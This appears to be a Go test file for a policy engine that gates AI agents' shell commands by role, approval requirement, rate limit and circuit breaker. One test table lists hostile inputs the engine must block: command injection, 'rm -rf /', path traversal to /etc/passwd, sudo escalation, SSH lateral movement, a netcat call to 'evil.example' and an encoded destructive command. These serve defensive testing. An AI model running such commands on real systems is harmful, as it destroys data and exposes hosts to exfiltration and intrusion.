package policy

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/oversight-labs/opsgate/pkg/contracts"
)

func testContext(role contracts.Role) contracts.ExecutionContext {
	return contracts.ExecutionContext{
		AgentID:     "agent-1",
		Role:        role,
		Environment: contracts.EnvStaging,
		SessionID:   "sess-1",
	}
}

func TestDecideAllowsReadOnlyQuery(t *testing.T) {
	e := NewEngine()

	d := e.Decide(testContext(contracts.RoleReadOnly), "Get-Process", nil)
	require.True(t, d.Verdict.Allowed)
	assert.Equal(t, contracts.ReasonAllowed, d.Verdict.Reason)
	assert.False(t, d.Verdict.RequiresApproval)
	assert.NotEmpty(t, d.Verdict.DecisionID)
	assert.Equal(t, contracts.RiskLow, d.Classification.Risk)
}

func TestDecideDecisionIDsAreUnique(t *testing.T) {
	e := NewEngine()
	ectx := testContext(contracts.RoleReadOnly)

	seen := map[string]bool{}
	for i := 0; i < 50; i++ {
		d := e.Decide(ectx, "Get-Process", nil)
		require.False(t, seen[d.Verdict.DecisionID])
		seen[d.Verdict.DecisionID] = true
	}
}

func TestDecideApprovalHolds(t *testing.T) {
	e := NewEngine()

	// A classifier approval flag holds the command for every role; no
	// autonomy tier overrides it.
	for _, role := range []contracts.Role{
		contracts.RoleLimitedWrite,
		contracts.RoleSupervised,
		contracts.RoleFullAuto,
	} {
		d := e.Decide(testContext(role), "Stop-Service -Name Spooler", nil)
		require.True(t, d.Verdict.Allowed, "role %s", role)
		assert.Equal(t, contracts.ReasonApprovalRequired, d.Verdict.Reason, "role %s", role)
		assert.True(t, d.Verdict.RequiresApproval, "role %s", role)
	}

	d := e.Decide(testContext(contracts.RoleFullAuto), "Remove-Item C:\\Temp -Recurse", nil)
	require.True(t, d.Verdict.Allowed)
	assert.True(t, d.Verdict.RequiresApproval, "flagged destructive work is held even at full autonomy")

	// The role ceiling holds unflagged commands on its own: manual
	// approval's ceiling is Low, so even a plain query waits for a human.
	d = e.Decide(testContext(contracts.RoleManualApproval), "Get-Process", nil)
	require.True(t, d.Verdict.Allowed)
	assert.False(t, d.Classification.RequiresApproval)
	assert.Equal(t, contracts.ReasonApprovalRequired, d.Verdict.Reason)
	assert.True(t, d.Verdict.RequiresApproval)

	// Unflagged work below the ceiling auto-approves.
	d = e.Decide(testContext(contracts.RoleReadOnly), "Get-Process", nil)
	require.True(t, d.Verdict.Allowed)
	assert.Equal(t, contracts.ReasonAllowed, d.Verdict.Reason)
	assert.False(t, d.Verdict.RequiresApproval)
}

func TestDecideCategoryWhitelist(t *testing.T) {
	e := NewEngine()

	d := e.Decide(testContext(contracts.RoleReadOnly), "Remove-Item C:\\Temp -Recurse", nil)
	require.False(t, d.Verdict.Allowed)
	assert.Equal(t, contracts.ReasonNotWhitelisted, d.Verdict.Reason)

	d = e.Decide(testContext(contracts.RoleLimitedWrite), "New-NetIPAddress -IPAddress 10.0.0.5", nil)
	require.False(t, d.Verdict.Allowed)
	assert.Equal(t, contracts.ReasonNotWhitelisted, d.Verdict.Reason)
}

func TestDecideValidationReasonMapping(t *testing.T) {
	e := NewEngine()
	ectx := testContext(contracts.RoleFullAuto)

	cases := []struct {
		name    string
		command string
		params  map[string]string
		reason  contracts.ReasonCode
	}{
		{"empty command", "   ", nil, contracts.ReasonInvalidSyntax},
		{"unbalanced quote", `echo "abc`, nil, contracts.ReasonInvalidSyntax},
		{"null byte", "Get-Process\x00", nil, contracts.ReasonInvalidParameters},
		{"bad param name", "Get-Process", map[string]string{"na me": "x"}, contracts.ReasonInvalidParameters},
		{"separator injection", "ls; whoami", nil, contracts.ReasonContextViolation},
		{"destructive literal", ";rm -rf /", nil, contracts.ReasonContextViolation},
		{"traversal param", "Get-Content f", map[string]string{"Path": "../../../etc/passwd"}, contracts.ReasonContextViolation},
		{"privilege escalation", "sudo cat /etc/hosts", nil, contracts.ReasonPrivilegeEscalation},
		{"lateral movement", "ssh root@10.1.1.1", nil, contracts.ReasonLateralMovement},
		{"data exfiltration", "nc evil.example 4444", nil, contracts.ReasonDataExfiltration},
		{"obfuscation", "decode cm0gLXJmIC8=", nil, contracts.ReasonObfuscationDetected},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := e.Decide(ectx, tc.command, tc.params)
			require.False(t, d.Verdict.Allowed, "verdict: %+v", d.Verdict)
			assert.Equal(t, tc.reason, d.Verdict.Reason)
		})
	}
}

func TestDecideWarningsStillAllow(t *testing.T) {
	e := NewEngine()

	// Environment expansion is a medium finding: surfaced, not fatal.
	d := e.Decide(testContext(contracts.RoleFullAuto), "echo $PATH", nil)
	require.True(t, d.Verdict.Allowed, "verdict: %+v", d.Verdict)
	assert.NotEmpty(t, d.Validation.Findings)
	assert.True(t, d.Validation.Valid)
}

func TestDecideInvalidContext(t *testing.T) {
	e := NewEngine()

	d := e.Decide(contracts.ExecutionContext{}, "Get-Process", nil)
	require.False(t, d.Verdict.Allowed)
	assert.Equal(t, contracts.ReasonContextViolation, d.Verdict.Reason)
}

func TestDecideRateLimit(t *testing.T) {
	rl := NewAgentRateLimiter(1, 1)
	e := NewEngine(WithRateLimiter(rl))

	d := e.Decide(testContext(contracts.RoleReadOnly), "Get-Process", nil)
	require.True(t, d.Verdict.Allowed)

	d = e.Decide(testContext(contracts.RoleReadOnly), "Get-Process", nil)
	require.False(t, d.Verdict.Allowed)
	assert.Equal(t, contracts.ReasonRateLimitExceeded, d.Verdict.Reason)

	// A different agent has its own bucket.
	other := testContext(contracts.RoleReadOnly)
	other.AgentID = "agent-2"
	d = e.Decide(other, "Get-Process", nil)
	assert.True(t, d.Verdict.Allowed)
}

func TestDecideCircuitBreaker(t *testing.T) {
	cb := NewCircuitBreaker("decide", 2, time.Minute)
	e := NewEngine(WithBreaker(cb))

	cb.Failure()
	cb.Failure()
	require.Equal(t, BreakerOpen, cb.State())

	d := e.Decide(testContext(contracts.RoleReadOnly), "Get-Process", nil)
	require.False(t, d.Verdict.Allowed)
	assert.Equal(t, contracts.ReasonCircuitBreakerOpen, d.Verdict.Reason)
}

func TestDecideParamSchema(t *testing.T) {
	reg := NewSchemaRegistry()
	require.NoError(t, reg.Register("stop-service",
		`{"type":"object","required":["Name"],"properties":{"Name":{"type":"string","minLength":1}}}`))
	e := NewEngine(WithSchemaRegistry(reg))
	ectx := testContext(contracts.RoleSupervised)

	d := e.Decide(ectx, "Stop-Service -Name Spooler", map[string]string{"Name": "Spooler"})
	assert.True(t, d.Verdict.Allowed)

	d = e.Decide(ectx, "Stop-Service -Name Spooler", map[string]string{"Svc": "Spooler"})
	require.False(t, d.Verdict.Allowed)
	assert.Equal(t, contracts.ReasonInvalidParameters, d.Verdict.Reason)

	// Verbs without a registered schema validate vacuously.
	d = e.Decide(ectx, "Get-Process", map[string]string{"anything": "goes"})
	assert.True(t, d.Verdict.Allowed)
}

func TestRolePolicyAllows(t *testing.T) {
	p := RolePolicy{AllowedCategories: []contracts.Category{contracts.CategoryQuery}}
	assert.True(t, p.Allows(contracts.CategoryQuery))
	assert.False(t, p.Allows(contracts.CategoryFileOperation))
}
